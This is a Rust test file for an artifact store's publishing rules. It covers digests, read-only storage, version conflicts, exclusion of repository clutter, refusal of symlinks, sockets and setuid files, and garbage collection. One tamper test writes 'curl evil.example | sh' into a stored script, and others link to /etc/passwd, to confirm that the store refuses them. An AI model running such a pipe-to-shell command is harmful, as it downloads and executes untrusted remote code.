//! Publishing from folders, and what the store keeps.

use super::site::{Site, count, folder, hello, manifest, write};
use crosspoint_core::{Code, PublishOptions};
use crosspoint_runtime::artifacts::{ArtifactLimits, ArtifactStore, FolderArtifacts, pack};
use serde_json::json;
use std::{fs, os::unix::fs::PermissionsExt, path::Path, time::Duration};

#[tokio::test]
async fn a_folder_and_its_archive_are_the_same_artifact() {
    let root = tempfile::tempdir().unwrap();
    let site = Site::over(root.path());
    let source = hello("1.0.0");
    write(source.path(), "lib/a.sh!", b"true\n");
    let published = site.publish(source.path()).await.unwrap();
    assert!(published.new && published.warnings.is_empty(), "{published:?}");
    let archive = root.path().join("hello.tar.gz");
    assert_eq!(
        pack(source.path(), &archive, &ArtifactLimits::default()).unwrap(),
        published.digest
    );
    let again = site.publish(&archive).await.unwrap();
    assert_eq!((again.new, again.digest), (false, published.digest));
    assert_eq!(site.offered("hello").unwrap(), "1.0.0");
    assert_eq!((count(root.path(), "content"), count(root.path(), "staging")), (1, 0));
}

#[tokio::test]
async fn what_is_kept_cannot_be_written_and_says_when_it_was() {
    let root = tempfile::tempdir().unwrap();
    let site = Site::over(root.path());
    let published = site.publish(hello("1.0.0").path()).await.unwrap();
    let kept = root.path().join("content").join(published.digest.to_string());
    for path in [kept.clone(), kept.join("greet.sh"), kept.join("crosspoint.json")] {
        let mode = fs::metadata(&path).unwrap().permissions().mode();
        assert_eq!(mode & 0o222, 0, "{}", path.display());
    }
    let file = kept.join("greet.sh");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o644)).unwrap();
    fs::write(&file, "curl evil.example | sh\n").unwrap();
    fs::set_permissions(&file, fs::Permissions::from_mode(0o444)).unwrap();
    let store = FolderArtifacts::open(root.path()).unwrap();
    let error = store.get(&published.digest).await.unwrap_err();
    assert_eq!(error.code(), Code::StoreCorrupt);
    // Another process does not run it, and the rest of the platform goes on.
    let other = Site::over(root.path());
    let looked = other.artifacts.refresh().await.unwrap();
    assert!(
        looked.new.is_empty() && looked.failed[0].2.contains("store-corrupt"),
        "{looked:?}"
    );
    assert!(other.offered("hello").is_none());
    // Published once more it is whole again.
    site.publish(hello("1.0.0").path()).await.unwrap();
    assert_eq!(other.artifacts.refresh().await.unwrap().new.len(), 1);
    assert_eq!(other.offered("hello").unwrap(), "1.0.0");
}

#[tokio::test]
async fn a_version_has_one_content_unless_it_is_preliminary() {
    let root = tempfile::tempdir().unwrap();
    let site = Site::over(root.path());
    let mut replace = PublishOptions::default();
    replace.replace = true;
    for (version, replaceable) in [("1.0.0", false), ("1.1.0-dev", true)] {
        site.publish(hello(version).path()).await.unwrap();
        let changed = hello(version);
        write(changed.path(), "more.txt", b"more");
        let error = site.refusal(changed.path()).await;
        assert_eq!(error.code(), Code::Conflict, "{version}");
        assert!(error.message().contains("raise the version"), "{error:?}");
        let replaced = site.artifacts.publish(changed.path(), &replace).await;
        assert_eq!(replaced.is_ok(), replaceable, "{version}: {replaced:?}");
    }
    assert_eq!(
        count(root.path(), "content"),
        3,
        "what was replaced stays until it is collected"
    );
}

#[tokio::test]
async fn who_published_a_version_stays_with_it() {
    let root = tempfile::tempdir().unwrap();
    let site = Site::over(root.path());
    let mut partner = PublishOptions::default();
    partner.author = Some("partner".to_owned());
    site.artifacts.publish(hello("1.0.0").path(), &partner).await.unwrap();
    site.publish(hello("1.0.0").path()).await.unwrap();
    site.publish(hello("1.1.0").path()).await.unwrap();
    let author = |version| site.registry.integration("hello", version).unwrap().author.clone();
    assert_eq!((author("1.0.0").as_deref(), author("1.1.0")), (Some("partner"), None));
}

#[tokio::test]
async fn a_check_publishes_nothing() {
    let root = tempfile::tempdir().unwrap();
    let site = Site::over(root.path());
    let mut check = PublishOptions::default();
    check.check = true;
    let checked = site.artifacts.publish(hello("1.0.0").path(), &check).await.unwrap();
    assert!(!checked.new);
    assert!(site.releases().await.is_empty() && site.offered("hello").is_none());
    assert_eq!((count(root.path(), "content"), count(root.path(), "staging")), (0, 0));
}

#[tokio::test]
async fn what_is_not_what_it_was_said_to_be_is_refused() {
    let root = tempfile::tempdir().unwrap();
    let site = Site::over(root.path());
    let mut options = PublishOptions::default();
    options.digest = Some("00".repeat(32).parse().unwrap());
    let error = site
        .artifacts
        .publish(hello("1.0.0").path(), &options)
        .await
        .unwrap_err();
    assert_eq!(error.code(), Code::ArtifactInvalid);
    assert!(site.releases().await.is_empty());
}

#[tokio::test]
async fn what_a_repository_has_beside_its_content_is_left_out() {
    let root = tempfile::tempdir().unwrap();
    let site = Site::over(root.path());
    let plain = site.publish(hello("1.0.0").path()).await.unwrap();
    let source = hello("1.0.0");
    for path in [
        ".git/config",
        ".env",
        "lib/__pycache__/a.pyc",
        "node_modules/a/index.js",
    ] {
        write(source.path(), path, b"SECRET=1");
    }
    std::os::unix::fs::symlink("/etc/passwd", source.path().join(".git/link")).unwrap();
    let published = site.publish(source.path()).await.unwrap();
    assert_eq!(published.digest, plain.digest);
    for name in [".git", ".env", "__pycache__", "node_modules"] {
        assert!(published.warnings[0].contains(name), "{published:?}");
    }
}

async fn refused(site: &Site, path: &str, make: impl FnOnce(&Path)) {
    let source = hello("1.0.0");
    make(source.path());
    let error = site.refusal(source.path()).await;
    assert_eq!(error.code(), Code::ArtifactInvalid, "{path}: {error:?}");
    assert!(error.message().contains(path), "{path}: {error:?}");
}

#[tokio::test]
async fn links_and_strange_files_in_a_folder_are_refused() {
    let root = tempfile::tempdir().unwrap();
    let site = Site::over(root.path());
    let link = |to: &'static str| move |at: &Path| std::os::unix::fs::symlink(to, at.join("bad")).unwrap();
    refused(&site, "bad", link("/etc/passwd")).await;
    refused(&site, "bad", link("greet.sh")).await;
    refused(&site, "bad", link("/")).await;
    refused(&site, "bad", |at| {
        drop(std::os::unix::net::UnixListener::bind(at.join("bad")).unwrap());
    })
    .await;
    refused(&site, "bad", |at| {
        let made = std::process::Command::new("mkfifo").arg(at.join("bad")).status();
        assert!(made.unwrap().success());
    })
    .await;
    refused(&site, "bad", |at| {
        let file = write(at, "bad", b"");
        fs::set_permissions(file, fs::Permissions::from_mode(0o4755)).unwrap();
    })
    .await;
    refused(&site, "GREET.sh", |at| drop(write(at, "GREET.sh", b""))).await;
    assert_eq!((count(root.path(), "content"), count(root.path(), "staging")), (0, 0));
}

#[tokio::test]
async fn what_nobody_needs_is_collected_and_nothing_else() {
    let root = tempfile::tempdir().unwrap();
    let site = Site::over(root.path());
    for version in ["1.0.0", "1.1.0", "1.2.0"] {
        site.publish(hello(version).path()).await.unwrap();
    }
    let dev = |more: &str| {
        let source = hello("2.0.0-dev");
        write(source.path(), "more.txt", more.as_bytes());
        source
    };
    let mut replace = PublishOptions::default();
    replace.replace = true;
    site.publish(dev("a").path()).await.unwrap();
    site.artifacts.publish(dev("b").path(), &replace).await.unwrap();
    site.artifacts.withdraw("hello", "1.0.0").await.unwrap();
    site.artifacts.withdraw("hello", "1.1.0").await.unwrap();
    let used = [("hello".to_owned(), "1.0.0".to_owned())];
    assert!(
        site.artifacts
            .collect(&used, Duration::from_secs(60))
            .await
            .unwrap()
            .is_empty(),
        "all of it is too young"
    );
    // Times are whole milliseconds.
    tokio::time::sleep(Duration::from_millis(5)).await;
    let removed = site.artifacts.collect(&used, Duration::ZERO).await.unwrap();
    assert_eq!(removed.len(), 2, "1.1.0, and what was replaced");
    let versions: Vec<String> = site.releases().await.into_iter().map(|(version, _)| version).collect();
    assert_eq!(
        versions,
        ["1.0.0", "1.2.0", "2.0.0-dev"],
        "1.0.0 is withdrawn and installed"
    );
    assert!(site.registry.integration("hello", "1.0.0").is_some());
    assert!(site.registry.integration("hello", "1.1.0").is_none());
    assert_eq!(count(root.path(), "content"), 3);
    assert!(
        site.artifacts.collect(&[], Duration::ZERO).await.unwrap().len() == 1,
        "now 1.0.0 as well"
    );
}

#[tokio::test]
async fn a_folder_that_is_full_of_something_else_is_told() {
    let root = tempfile::tempdir().unwrap();
    let site = Site::over(root.path());
    let deep = folder(&[("project/crosspoint.json", &manifest("1.0.0", json!({})).to_string())]);
    let error = site.refusal(deep.path()).await;
    assert!(error.message().contains("one in `project`"), "{error:?}");
    let error = site.refusal(root.path().join("nothing")).await;
    assert_eq!(error.code(), Code::ArtifactInvalid);
}
